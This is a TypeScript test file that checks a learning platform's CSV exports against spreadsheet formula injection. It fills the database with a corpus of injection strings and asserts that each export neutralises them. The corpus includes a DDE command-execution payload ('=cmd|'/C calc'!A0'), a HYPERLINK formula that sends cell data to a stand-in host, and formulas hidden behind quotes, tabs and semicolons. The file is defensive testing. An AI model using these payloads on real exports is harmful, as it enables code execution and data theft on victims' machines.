import { expect, test } from 'bun:test';
import { sql } from 'drizzle-orm';
import { exportUsers } from '#contract/admin-users.ts';
import { exportAssignments } from '#contract/assignments.ts';
import type { Call } from '#contract/call.ts';
import { exportCertificates } from '#contract/certificates.ts';
import { exportCohorts } from '#contract/cohorts.ts';
import { unguardText } from '#contract/csv.ts';
import { exportLeagues } from '#contract/leagues.ts';
import { exportCompletion } from '#contract/reports.ts';
import { exportResources } from '#contract/resources.ts';
import { exportSubmissions } from '#contract/review-queue.ts';
import { exportSections } from '#contract/sections.ts';
import { exportSpecializations } from '#contract/specializations.ts';
import { exportWeeks } from '#contract/weeks.ts';
import { certificates } from '../../platform/db/schema/awards.ts';
import { assignments, specializationLeagues, specializations } from '../../platform/db/schema/curriculum.ts';
import { submissions } from '../../platform/db/schema/learning.ts';
import { createId } from '../../platform/process/secrets.ts';
import { addLeague, addLearner } from '../../test/leagues.ts';
import { openTestApp } from '../../test/open-app.ts';
import { addPerson } from '../../test/people.ts';
import { fetchExport, readCsv } from '../../test/read-csv.ts';

/** docs/security.md H8 but NUL, which no database keeps, and what hides a formula behind something harmless. */
const CORPUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1"',
  '","=1+1',
  'a,b',
  'two\r\nlines',
  'x;=1+1',
  'x\t@SUM(A1)',
  'x;"=1+1;',
  "'=1+1",
  '=HYPERLINK("https://x.test?"&A1)',
  "=cmd|'/C calc'!A0",
  '＝1+1',
  ' =1+1',
  'ਹਰਪ੍ਰੀਤ 👩‍🚀',
];

const api = await openTestApp();
const grand = await addPerson(api.db, { role: 'GRAND_PATHFINDER' });
const leagueIds: string[] = [];
for (const [index, text] of CORPUS.entries()) {
  const league = await addLeague(api.db, { name: text, weeks: 1, sections: 1, resources: 1 });
  leagueIds.push(league.id);
  const person = await addLearner(api.db, league, { name: text });
  await api.db.execute(sql`update users set institute = ${text}, department = ${text}, student_id = ${text},
    phone_number = ${text}, portfolio_url = ${text}, github_username = ${text}, twitter_handle = ${`@${text}`},
    linkedin_url = ${text}, discord_username = ${text}, kaggle_username = ${text}, olid = ${text},
    current_cohort_id = ${league.cohortId}, approved_by_id = ${person.id} where id = ${person.id}`);
  await api.db.execute(
    sql`update cohorts set name = ${text}, description = ${text} where id = ${league.cohortId}`,
  );
  await api.db.execute(sql`update leagues set description = ${text} where id = ${league.id}`);
  await api.db.execute(
    sql`update weeks set name = ${text}, description = ${text} where league_id = ${league.id}`,
  );
  await api.db.execute(sql`update sections set name = ${text}, description = ${text}
    where week_id = ${league.weeks[0]?.id}`);
  await api.db.execute(sql`update resources set title = ${text}, url = ${`https://x.test/?${text}`}
    where section_id = ${league.weeks[0]?.sections[0]?.id}`);
  const id = createId();
  await api.db
    .insert(specializations)
    .values({ id, name: text, description: text, cohortId: league.cohortId });
  await api.db
    .insert(specializationLeagues)
    .values({ id: createId(), specializationId: id, leagueId: league.id, order: 1 });
  const assignmentId = createId();
  await api.db
    .insert(assignments)
    .values({ id: assignmentId, leagueId: league.id, title: text, description: text });
  await api.db.insert(submissions).values({
    id: createId(),
    assignmentId,
    userId: person.id,
    content: text,
    feedback: text,
    reviewedById: person.id,
    reviewedAt: new Date(2026, 2, 1),
  });
  await api.db.insert(certificates).values({
    id: createId(),
    kind: 'LEAGUE',
    userId: person.id,
    leagueId: league.id,
    holderName: text,
    title: text,
    issuer: text,
    completedAt: new Date(2026, 1, index + 1),
    revokedAt: new Date(2026, 2, 1),
    revokedById: person.id,
    revocationReason: text,
  });
}

const TEXTS: [string, Pick<Call, 'path'>, readonly string[]][] = [
  [
    'users',
    exportUsers,
    [
      'Name',
      'OL ID',
      'Cohort',
      'Leagues',
      'Institute',
      'Department',
      'Student ID',
      'Phone number',
      'Portfolio',
      'GitHub',
      'LinkedIn',
      'Discord',
      'Kaggle',
      'Approved by',
    ],
  ],
  ['cohorts', exportCohorts, ['Name', 'Description']],
  ['leagues', exportLeagues, ['Name', 'Description', 'Cohort']],
  ['specializations', exportSpecializations, ['Name', 'Description', 'Cohort', 'Leagues']],
  ['weeks', exportWeeks, ['League', 'Name', 'Description']],
  ['sections', exportSections, ['League', 'Module', 'Name', 'Description']],
  ['resources', exportResources, ['League', 'Module', 'Topic', 'Title']],
  ['assignments', exportAssignments, ['Title', 'Description', 'League']],
  [
    'submissions',
    exportSubmissions,
    ['Learner', 'Assignment', 'League', 'Answer', 'Feedback', 'Reviewed by'],
  ],
  ['certificates', exportCertificates, ['Holder', 'Name today', 'For', 'Reason', 'Revoked by']],
  ['completion', exportCompletion, ['League']],
];

const RUNS = /^\s*[=+\-@＝]|^[\t\r\n\0]/;

for (const [name, call, columns] of TEXTS) {
  test(`P32 H8 ${name}: no cell runs in a spreadsheet, and each comes back as it was written`, async () => {
    const { text } = await fetchExport(api, call, grand.token);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = readCsv(text);
    for (const column of columns) {
      const cells = rows.map((row) => row[column] ?? '').filter(Boolean);
      expect([column, cells.filter((cell) => RUNS.test(cell))]).toEqual([column, []]);
      expect([column, cells.map(unguardText).toSorted()]).toEqual([
        column,
        column === 'Name' && name === 'users' ? [...CORPUS, grand.name].toSorted() : CORPUS.toSorted(),
      ]);
    }
    // What a spreadsheet that parts cells at semicolons, tabs or line ends would take for the beginning of one.
    const pieces = text.slice(1).split(/[;\t\r\n]/);
    expect(pieces.filter((piece) => /^"{0,2}\s*[=+\-@＝]/.test(piece))).toEqual([]);
  });
}

test('P32 H8 completion of one league: its modules and topics', async () => {
  for (const [index, leagueId] of leagueIds.entries()) {
    const { text } = await fetchExport(api, exportCompletion, grand.token, { leagueId });
    const [week, section] = readCsv(text);
    expect([week?.Module, section?.Topic].map((cell) => unguardText(cell ?? ''))).toEqual([
      CORPUS[index] as string,
      CORPUS[index] as string,
    ]);
    expect(RUNS.test(week?.Module ?? '')).toBe(false);
  }
});
